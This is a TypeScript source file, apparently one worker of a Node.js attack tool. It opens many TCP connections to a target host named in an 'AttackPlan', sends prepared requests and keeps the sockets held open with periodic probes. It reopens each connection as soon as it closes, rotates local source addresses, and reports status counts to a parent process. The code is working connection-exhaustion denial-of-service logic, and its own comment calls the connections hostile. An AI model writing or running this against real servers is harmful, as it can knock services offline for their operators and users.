// A process that holds hostile connections: each is opened anew when it ends, until the parent goes or kills
// it.
import { connect, type Socket } from 'node:net';
import { type AttackPlan, type AttackReport, addressOf } from './plan.ts';
import { prepareRequests } from './requests.ts';

const PAUSE_MS = 1_000;

const plan: AttackPlan = JSON.parse(process.argv[2] ?? '');
const requests = await prepareRequests(plan);
const report: AttackReport = { opened: 0, open: 0, statuses: {} };
let allowance = requests.perSecond;
const waiting: number[] = Array.from({ length: plan.connections }, (_, index) => index);

process.on('disconnect', () => process.exit());
setInterval(() => {
  allowance = Math.min(requests.perSecond, allowance + requests.perSecond / 10);
  for (; allowance >= 1 && waiting.length > 0; allowance -= 1) void open(waiting.shift() ?? 0);
}, 100);
setInterval(() => process.send?.(report), 1_000);

async function open(index: number): Promise<void> {
  report.opened += 1;
  report.open += 1;
  const bytes = await requests.next(index);
  const localAddress = addressOf(index, plan.sharesAddress);
  const socket = connect({ host: plan.host, port: plan.port, localAddress });
  socket.on('error', (error: NodeJS.ErrnoException) => count(error.code ?? 'error'));
  socket.on('connect', () => socket.write(bytes));
  if (requests.reads) readStatus(socket);
  else socket.pause();
  // Who reads nothing does not see that it was cut off, but for what it writes; an empty line is no request.
  const probe = setInterval(() => requests.reads || socket.write('\r\n'), 2 * PAUSE_MS);
  socket.on('close', () => {
    clearInterval(probe);
    report.open -= 1;
    setTimeout(() => waiting.push(index), PAUSE_MS);
  });
}

/** Takes the first line of the reply, and goes. */
function readStatus(socket: Socket): void {
  socket.once('data', (chunk) => {
    count(/^HTTP\/1\.1 (\d+)/.exec(chunk.toString('latin1'))?.[1] ?? 'nonsense');
    socket.destroy();
  });
}

function count(outcome: string): void {
  report.statuses[outcome] = (report.statuses[outcome] ?? 0) + 1;
}
